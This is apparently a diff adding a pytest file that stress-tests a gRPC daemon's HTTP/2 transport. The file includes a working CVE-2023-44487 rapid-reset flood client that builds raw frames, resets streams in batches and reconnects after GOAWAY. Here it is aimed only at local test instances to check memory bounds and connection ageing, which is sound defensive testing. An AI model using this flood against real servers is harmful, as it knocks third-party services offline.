@@ -1,0 +1,236 @@
+"""
+The HTTP/2 transport under hostile and long-lived clients: rapid reset
+floods (hand-made frames: hpack comes with Debian's python3-h2), client
+keepalive pings on idle streams, and TLS across reloads and certificate
+rotation.
+"""
+import os
+import socket
+import ssl
+import struct
+import subprocess
+import threading
+import time
+
+import grpc
+import hpack
+
+import conftest
+from conftest import SUCCEEDED, wait_for
+from test_nginx import nginx_front  # noqa: F401 (fixture)
+
+# ---------------------------------------------------------------------------
+# raw HTTP/2
+# ---------------------------------------------------------------------------
+
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY = 0x1, 0x3, 0x4, 0x6, 0x7
+END_HEADERS, ACK = 0x4, 0x1
+CANCEL = 0x8
+
+
+def frame(kind, flags, stream_id, payload=b""):
+    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + \
+        struct.pack(">I", stream_id) + payload
+
+
+def request_headers(authority, path=conftest.METHOD_SUBMIT):
+    """A HEADERS block that leaves the peer's HPACK table alone, so that the
+    same bytes can open any number of streams."""
+    fields = [(":method", "POST"), (":scheme", "http"), (":path", path),
+              (":authority", authority), ("content-type", "application/grpc"),
+              ("te", "trailers")]
+    return hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple(k, v) for k, v in fields])
+
+
+class RapidReset:
+    """The CVE-2023-44487 pattern against host:port, in a thread: open a
+    doSomething stream and reset it at once, in batches, for `seconds`.
+    GOAWAYs are ignored; a closed connection is reopened at once."""
+
+    BATCH = 200
+
+    def __init__(self, address, seconds):
+        host, port = address.rsplit(":", 1)
+        self.target = (host, int(port))
+        self.block = request_headers(address)
+        self.seconds = seconds
+        self.streams = 0
+        self.connections = 0
+        self.goaways = []
+        self.thread = threading.Thread(target=self._run, daemon=True)
+
+    def start(self):
+        self.thread.start()
+        return self
+
+    def join(self):
+        self.thread.join(timeout=self.seconds + 30)
+        assert not self.thread.is_alive(), "the flood did not stop"
+
+    def _run(self):
+        deadline = time.monotonic() + self.seconds
+        while time.monotonic() < deadline:
+            try:
+                self._one_connection(deadline)
+            except OSError:
+                time.sleep(0.01)
+
+    def _one_connection(self, deadline):
+        with socket.create_connection(self.target, timeout=5) as s:
+            self.connections += 1
+            s.sendall(PREFACE + frame(SETTINGS, 0, 0))
+            closed = threading.Event()
+            reader = threading.Thread(target=self._read, args=(s, closed), daemon=True)
+            reader.start()
+            stream_id = 1
+            try:
+                while time.monotonic() < deadline and not closed.is_set() \
+                        and stream_id < 2 ** 31 - 2 * self.BATCH:
+                    batch = []
+                    for _ in range(self.BATCH):
+                        batch.append(frame(HEADERS, END_HEADERS, stream_id, self.block))
+                        batch.append(frame(RST_STREAM, 0, stream_id, struct.pack(">I", CANCEL)))
+                        stream_id += 2
+                    s.sendall(b"".join(batch))
+                    self.streams += self.BATCH
+            finally:
+                try:
+                    s.shutdown(socket.SHUT_RDWR)
+                except OSError:
+                    pass
+                reader.join(timeout=5)
+
+    def _read(self, s, closed):
+        buf = b""
+        try:
+            while True:
+                data = s.recv(1 << 16)
+                if not data:
+                    break
+                buf += data
+                while len(buf) >= 9:
+                    length = int.from_bytes(buf[:3], "big")
+                    if len(buf) < 9 + length:
+                        break
+                    kind, flags, payload = buf[3], buf[4], buf[9:9 + length]
+                    if kind == GOAWAY:
+                        self.goaways.append(payload[4:8])
+                    elif kind == SETTINGS and not flags & ACK:
+                        s.sendall(frame(SETTINGS, ACK, 0))
+                    buf = buf[9 + length:]
+        except OSError:
+            pass
+        closed.set()
+
+
+def rss_kib(pid):
+    with open(f"/proc/{pid}/status") as f:
+        for line in f:
+            if line.startswith("VmRSS:"):
+                return int(line.split()[1])
+    raise AssertionError(f"no VmRSS for {pid}")
+
+
+class RssWatch:
+    """The largest VmRSS of a process, sampled in a thread until stop()."""
+
+    def __init__(self, pid):
+        self.pid = pid
+        self.peak = rss_kib(pid)
+        self.done = threading.Event()
+        self.thread = threading.Thread(target=self._run, daemon=True)
+        self.thread.start()
+
+    def _run(self):
+        while not self.done.wait(0.05):
+            try:
+                self.peak = max(self.peak, rss_kib(self.pid))
+            except (OSError, AssertionError):
+                return
+
+    def stop(self):
+        self.done.set()
+        self.thread.join(timeout=5)
+        return self.peak
+
+
+RSS_BOUND_KIB = 200 * 1024
+FLOOD_SECONDS = 6
+
+
+def flood_and_submit(d, target_address, client):
+    """Flood target_address while `client` submits items now and then; return
+    (peak RSS of d's grpc process in KiB, the flood)."""
+    grpc_pid = d.grpc_pid()
+    watch = RssWatch(grpc_pid)
+    sub = client.subscribe(sync=True, states=[SUCCEEDED], name="bystander")
+    flood = RapidReset(target_address, FLOOD_SECONDS).start()
+    ids = []
+    try:
+        wait_for(lambda: flood.streams > 0, 10, "the flood to start")
+        for n in range(3):
+            batch = [{"id": f"bystander-{n}-{i}", "kind": "echo", "payload": b"x"}
+                     for i in range(20)]
+            reply = client.submit(batch, timeout=120)
+            assert reply.accepted == len(batch), reply
+            ids += [b["id"] for b in batch]
+            time.sleep(1)
+        sub.wait_final(ids, timeout=120)
+        flood.join()
+    finally:
+        peak = watch.stop()
+    assert d.grpc_pid() == grpc_pid, "the grpc process was replaced during the flood"
+    return peak, flood
+
+
+# ---------------------------------------------------------------------------
+# rapid reset
+# ---------------------------------------------------------------------------
+
+@conftest.pytest.mark.deadline(240)
+def test_rapid_reset_flood_leaves_no_memory_behind(start_daemon):
+    """gRPC 1.51 holds a call per reset stream while the flood lasts (see the
+    nginx test for the bound on that); once it ends, the memory goes back."""
+    d = start_daemon({"workers": {"count": 1}})
+    client = d.client()
+    peak, flood = flood_and_submit(d, d.address, client)
+    assert flood.streams > 10000, f"the flood sent only {flood.streams} streams"
+    grpc_pid = d.grpc_pid()
+    try:
+        wait_for(lambda: rss_kib(grpc_pid) < RSS_BOUND_KIB, 30,
+                 f"the grpc process to shrink below {RSS_BOUND_KIB // 1024} MiB")
+    except AssertionError as e:
+        raise AssertionError(f"{e}: it holds {rss_kib(grpc_pid) // 1024} MiB after a flood of "
+                             f"{flood.streams} streams (peak {peak // 1024} MiB)") from None
+    reply, _ = client.run_items([{"id": "after-flood", "kind": "echo", "payload": b"y"}])
+    assert reply.accepted == 1
+
+
+@conftest.pytest.mark.deadline(120)
+def test_max_connection_age_ends_a_flooding_connection(start_daemon):
+    d = start_daemon({"workers": {"count": 1},
+                      "grpc": {"max_connection_age": "1s", "max_connection_age_grace": "1s"}})
+    flood = RapidReset(d.address, 5).start()
+    flood.join()
+    assert flood.goaways, "no GOAWAY reached the flooding client"
+    assert flood.connections >= 2, "the flooding connection outlived max_connection_age + grace"
+
+
+@conftest.pytest.mark.deadline(240)
+def test_rapid_reset_through_nginx_keeps_the_grpc_process_small(start_daemon, nginx_front):
+    instances = [start_daemon({"workers": {"count": 1}}, name=f"n{n}") for n in (1, 2)]
+    front = nginx_front([d.address for d in instances])
+    d = instances[0]
+    client = d.client()
+    other = RssWatch(instances[1].grpc_pid())
+    try:
+        peak, flood = flood_and_submit(d, front.address, client)
+    finally:
+        other_peak = other.stop()
+    peaks = [peak, other_peak]
+    assert flood.streams > 10000, f"the flood sent only {flood.streams} streams"
+    for i, p in zip(instances, peaks):
+        assert p < RSS_BOUND_KIB, (
+            f"{i.name}'s grpc process reached {p // 1024} MiB behind nginx during a rapid "
+            f"reset flood of {flood.streams} streams on {flood.connections} connections")
